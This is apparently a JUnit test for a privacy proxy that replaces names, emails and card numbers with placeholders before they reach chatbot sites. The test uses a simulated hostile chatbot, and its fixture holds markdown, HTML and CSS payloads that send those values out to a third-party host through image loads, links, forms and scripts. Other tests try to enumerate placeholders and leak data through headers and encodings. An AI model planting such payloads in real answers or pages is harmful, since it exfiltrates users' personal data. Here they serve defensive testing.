package io.cloakroom.proxy.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.cloakroom.proxy.testkit.LoopbackPki;
import io.cloakroom.proxy.testkit.LoopbackPki.Flaw;
import io.cloakroom.proxy.testkit.LoopbackServer;
import io.cloakroom.proxy.testkit.LoopbackServer.Host;
import io.cloakroom.proxy.testkit.LoopbackServer.Reply;
import io.cloakroom.proxy.testkit.LoopbackServer.Stream;
import io.cloakroom.proxy.testkit.Recorder;
import io.cloakroom.proxy.testkit.Recorder.Recorded;
import io.cloakroom.proxy.testkit.VisibleText;
import io.cloakroom.rules.store.JournalReader;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A chatbot that wants the originals: its answers put placeholders where a browser sends them out by itself and ask for all there are, and
 * its page sends whatever it can read to the chatbot and to a third party. What counts is what the recipients recorded.
 */
class HostileChatbotTest {

    private static final List<String> ORIGINALS =
            List.of("Marta Kowalczyk", "marta.kowalczyk@example.com", "4111 1111 1111 1111");
    private static final String PROMPT =
            "Please draft a reply to Marta Kowalczyk (marta.kowalczyk@example.com). Her card 4111 1111 1111 1111 was charged twice.";
    private static final String THIRD_PARTY = "gator.volces.com";
    private static final Map<String, String> JSON = Map.of("Content-Type", "application/json");

    @TempDir
    private static Path directory;

    private static final Recorder RECORDER = new Recorder();
    private static LoopbackServer recipients;
    private static Cloakroom cloakroom;
    private static Client page;
    private static final Map<String, Client.Connection> CONNECTIONS = new TreeMap<>();

    /** What the model says next; {@code {E}}, {@code {P}} and {@code {C}} are the placeholders it was sent. */
    private static volatile String says = "";

    private static final Map<String, String> PLACEHOLDERS = new TreeMap<>();

    @BeforeAll
    static void start() throws Exception {
        LoopbackPki pki = LoopbackPki.create();
        Host collect = (request, reply) -> reply.text(200, "application/json", "{}");
        recipients = new LoopbackServer(
                pki.serverContext(Flaw.NONE),
                Map.of(
                        "chat.deepseek.com",
                        HostileChatbotTest::chatbot,
                        "chatgpt.com",
                        HostileChatbotTest::chatbot,
                        "api.openai.com",
                        HostileChatbotTest::api,
                        THIRD_PARTY,
                        collect),
                RECORDER);
        Path trust = Files.writeString(directory.resolve("root.pem"), pki.rootPem());
        Map<String, String> hosts = new TreeMap<>();
        List.of("chat.deepseek.com", "chatgpt.com", "api.openai.com", THIRD_PARTY)
                .forEach(host -> hosts.put(host, recipients.address()));
        Config config = Config.defaults().withPorts(0, 0).withUpstream(hosts, List.of(trust.toString()));
        cloakroom = Cloakroom.start(config, directory, directory.resolve("data"));
        page = new Client(cloakroom.proxyPort(), cloakroom.installation().caPem(), "");
    }

    @AfterAll
    static void stop() throws IOException {
        for (Client.Connection connection : CONNECTIONS.values()) {
            connection.close();
        }
        cloakroom.close();
        recipients.close();
    }

    /** On the connection the page has to this host. */
    private static Client.Answer send(
            String method, String host, String target, Map<String, String> headers, String body) throws Exception {
        Client.Connection connection = CONNECTIONS.get(host);
        if (connection == null) {
            connection = page.connect(host);
            CONNECTIONS.put(host, connection);
        }
        try {
            return connection.ask(method, target, headers, body);
        } catch (IOException ended) {
            CONNECTIONS.remove(host).close();
            throw ended;
        }
    }

    @BeforeEach
    void forget() {
        RECORDER.clear();
    }

    private static String said(Recorded request) {
        Pattern.compile("\\[(PERSON|EMAIL|CREDIT_CARD)_\\d+]")
                .matcher(request.text())
                .results()
                .forEach(match -> PLACEHOLDERS.put(match.group(1).substring(0, 1), match.group()));
        return says.replace("{P}", PLACEHOLDERS.getOrDefault("P", "{P}"))
                .replace("{E}", PLACEHOLDERS.getOrDefault("E", "{E}"))
                .replace("{C}", PLACEHOLDERS.getOrDefault("C", "{C}"));
    }

    private static void chatbot(Recorded request, Reply reply) throws IOException {
        if (!request.target().matches("/(backend-api/f/conversation|api/v0/chat/completion)")) {
            reply.text(200, "application/json", "{}");
            return;
        }
        boolean gpt = request.host().equals("chatgpt.com");
        Stream stream = reply.stream("text/event-stream");
        String text = said(request);
        if (!gpt) {
            stream.send("data: {\"v\":{\"response\":{\"fragments\":[{\"type\":\"RESPONSE\",\"content\":\"\"}]}}}\n\n");
        }
        for (int at = 0; at < text.length(); at += 7) {
            String piece = text.substring(at, Math.min(text.length(), at + 7))
                    .replace("\\", "\\\\")
                    .replace("\"", "\\\"")
                    .replace("\n", "\\n");
            stream.send(
                    gpt
                            ? "event: delta\ndata: {\"p\":\"/message/content/parts/0\",\"o\":\"append\",\"v\":\""
                                    + piece + "\"}\n\n"
                            : "data: {\"p\":\"response/fragments/-1/content\",\"o\":\"APPEND\",\"v\":\"" + piece
                                    + "\"}\n\n");
        }
        stream.send(gpt ? "data: [DONE]\n\n" : "event: close\ndata: {}\n\n");
    }

    private static void api(Recorded request, Reply reply) throws IOException {
        String text = said(request);
        reply.text(
                200,
                "application/json",
                "{\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":\"" + text
                        + "\",\"tool_calls\":[{\"id\":\"call_1\",\"type\":\"function\",\"function\":{\"name\":\"fetch\",\"arguments\":\"{\\\"url\\\":\\\""
                        + text + "\\\"}\"}}]}}]}");
    }

    /** What the page's scripts can read after the person asked. */
    private static String ask(String host, String answer) throws Exception {
        says = answer;
        String body = host.equals("chatgpt.com")
                ? "{\"messages\":[{\"content\":{\"parts\":[\"" + PROMPT + "\"]}}]}"
                : "{\"chat_session_id\":\"c1\",\"prompt\":\"" + PROMPT + "\"}";
        String target = host.equals("chatgpt.com") ? "/backend-api/f/conversation" : "/api/v0/chat/completion";
        Client.Answer got = send("POST", host, target, JSON, body);
        assertThat(got.status()).isEqualTo(200);
        return VisibleText.read(host, got.body());
    }

    private static void nobodyReceivedAnOriginal() {
        assertThat(RECORDER.all())
                .allSatisfy(received -> assertThat(received.everything())
                        .doesNotContainIgnoringCase(ORIGINALS.toArray(new String[0]))
                        .doesNotContain(
                                ORIGINALS.stream().map(Encoding.PERCENT::of).toList())
                        .doesNotContain(ORIGINALS.stream()
                                .map(original -> original.replace(' ', '+'))
                                .toList()));
    }

    private static final String LURES = """
            Dear {P},
            ![chart](https://gator.volces.com/pixel.png?d={E})
            [your invoice](https://gator.volces.com/invoice/{E} "for {P}")
            <img src="https://gator.volces.com/a.png?{E}" alt="{P}">
            <form action="/collect?{E}"><input name="card" value="{C}"></form>
            <a href='https://gator.volces.com/?{E}' data-card="{C}">here</a>
            <div style="background:url(https://gator.volces.com/b.png?{E})"></div>
            see https://gator.volces.com/?q={E} or gator.volces.com/{E}
            ![chart][1] and <https://gator.volces.com/{E}>
            <script>send("{E}")</script><style>@import "/x?{E}"</style>
            javascript:send("{E}") mailto:{E}
            [1]: /pixel.png?{E}

            Yours, {P}
            """;

    @ParameterizedTest
    @ValueSource(strings = {"chatgpt.com", "chat.deepseek.com"})
    @DisplayName("trust 48: links, images, forms and attributes of an answer carry no original anywhere")
    void nothingThatABrowserSendsByItselfIsRestored(String host) throws Exception {
        String visible = ask(host, LURES);

        boolean trusted = host.equals("chatgpt.com");
        assertThat(visible.contains("Dear Marta Kowalczyk")).isEqualTo(trusted);
        assertThat(visible.contains("Yours, Marta Kowalczyk")).isEqualTo(trusted);
        assertThat(visible).doesNotContain("marta.kowalczyk@example.com", "4111 1111");
        // The browser loads and follows all of them.
        List<String> loaded = Pattern.compile("gator\\.volces\\.com(/[^\\s\"')>]*)|[(\"](/[^\\s\"')>]+)|: (/\\S+)")
                .matcher(visible)
                .results()
                .map(HostileChatbotTest::firstGroup)
                .toList();
        assertThat(loaded).hasSizeGreaterThan(8);
        for (String target : loaded) {
            send("GET", THIRD_PARTY, target.replace("[", "%5B").replace("]", "%5D"), Map.of(), "");
        }
        assertThat(RECORDER.of(THIRD_PARTY)).hasSizeGreaterThan(8);
        nobodyReceivedAnOriginal();
    }

    private static String firstGroup(MatchResult match) {
        return IntStream.rangeClosed(1, match.groupCount())
                .mapToObj(match::group)
                .filter(group -> group != null)
                .findFirst()
                .orElseThrow();
    }

    @Test
    @DisplayName("trust 48: a tool's arguments are not restored, the text beside them is")
    void aToolGetsPlaceholders() throws Exception {
        says = "{E}";
        Client.Answer got = send(
                "POST",
                "api.openai.com",
                "/v1/chat/completions",
                JSON,
                "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"" + PROMPT + "\"}]}");

        assertThat(got.body())
                .contains("\"content\":\"marta.kowalczyk@example.com\"")
                .containsPattern("arguments\":\"\\{\\\\\"url\\\\\":\\\\\"\\[EMAIL_\\d+]");
        nobodyReceivedAnOriginal();
    }

    @Test
    @DisplayName("trust 48: whoever asks for all placeholders gets none, and an alarm is raised")
    void anEnumerationGetsNothing() throws Exception {
        ask("chatgpt.com", "Noted.");
        String everybody = IntStream.rangeClosed(1, 999)
                .mapToObj(number -> "[PERSON_" + number + "] [EMAIL_" + number + "]")
                .collect(Collectors.joining(" "));

        says = everybody;
        Client.Answer got = send(
                "POST",
                "chatgpt.com",
                "/backend-api/f/conversation",
                JSON,
                "{\"conversation_id\":\"elsewhere\",\"messages\":[{\"content\":{\"parts\":[\"hello\"]}}]}");

        assertThat(VisibleText.read("chatgpt.com", got.body())).isEqualTo(everybody);
        List<String> outcomes = new ArrayList<>();
        new JournalReader(directory.resolve("data")).read(line -> {
            if (line.end() != null) {
                outcomes.add(line.end().outcome());
            }
        });
        assertThat(outcomes).contains("enumeration");
    }

    /** Where a page can put something. */
    private enum Place {
        FIELD_OF_THE_PROMPT("POST", "/api/v0/chat/completion"),
        BODY("POST", "/list"),
        FORM("POST", "/list"),
        TEXT("POST", "/list"),
        QUERY("GET", "/list"),
        PATH("GET", "/"),
        HEADER("GET", "/list"),
        REFERER("GET", "/list");

        private final String method;
        private final String target;

        Place(String method, String target) {
            this.method = method;
            this.target = target;
        }

        /** Sends it there, and tells the status. */
        int send(String host, String what) throws Exception {
            String inUrl = Encoding.PERCENT.of(what);
            String inJson = new ObjectMapper().writeValueAsString(what);
            String type = this == FORM
                    ? "application/x-www-form-urlencoded"
                    : this == TEXT ? "text/plain" : "application/json";
            Map<String, String> headers = new TreeMap<>(Map.of("Content-Type", type));
            String body = "";
            String to = target;
            switch (this) {
                case FIELD_OF_THE_PROMPT ->
                    body = "{\"chat_session_id\":\"c1\",\"prompt\":\"hello\",\"trace\":" + inJson + "}";
                case BODY -> body = "{\"events\":[{\"text\":" + inJson + "}]}";
                case FORM -> body = "d=" + inUrl;
                case TEXT -> body = what;
                case QUERY -> to += "?d=" + inUrl;
                case PATH -> to += inUrl;
                case HEADER ->
                    headers.put(
                            "X-Trace", new String(what.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1));
                case REFERER -> headers.put("Referer", "https://chat.deepseek.com/?d=" + inUrl);
            }
            return HostileChatbotTest.send(method, host, to, headers, body).status();
        }
    }

    @ParameterizedTest
    @EnumSource(Encoding.class)
    @DisplayName("trust 30: what a page knows does not leave it by any way in an encoding that is undone")
    void whatThePageKnowsIsLookedForInEverythingItSends(Encoding encoding) throws Exception {
        String visible = ask("chat.deepseek.com", "Dear {P}, noted: {E}, {C}.");
        assertThat(visible)
                .as("the shipped policy keeps originals out of this page")
                .doesNotContain(ORIGINALS);
        assertThat(visible).contains("Dear [PERSON_", "[EMAIL_", "[CREDIT_CARD_");
        RECORDER.clear();
        // What a person types, the page knows all the same.
        String typed = encoding.of(ORIGINALS.get(1));
        List<String> arrived = new ArrayList<>();
        for (Place place : Place.values()) {
            String host = place == Place.FIELD_OF_THE_PROMPT ? "chat.deepseek.com" : THIRD_PARTY;
            RECORDER.clear();
            says = "Noted.";
            if (place == Place.BODY) {
                place.send(host, encoding.of(visible));
            }
            place.send(host, typed);
            boolean came = RECORDER.all().stream()
                    .map(received -> received.everything())
                    .anyMatch(all -> all.contains(typed)
                            || all.contains(Encoding.PERCENT.of(typed))
                            || all.contains(
                                    new String(typed.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1))
                            || all.contains(typed.replace("\\", "\\\\")));
            if (came) {
                arrived.add(place.name().toLowerCase(Locale.ROOT));
            }
            nobodyReceivedAnOriginal();
        }
        System.out.println("trust 30: " + encoding.name().toLowerCase(Locale.ROOT) + ": "
                + (arrived.isEmpty() ? "caught everywhere" : "arrives through " + String.join(", ", arrived)));
        if (encoding.caught()) {
            assertThat(arrived).isEmpty();
        } else {
            assertThat(arrived)
                    .as("a gap that is documented, until it is closed")
                    .isNotEmpty();
        }
    }
}
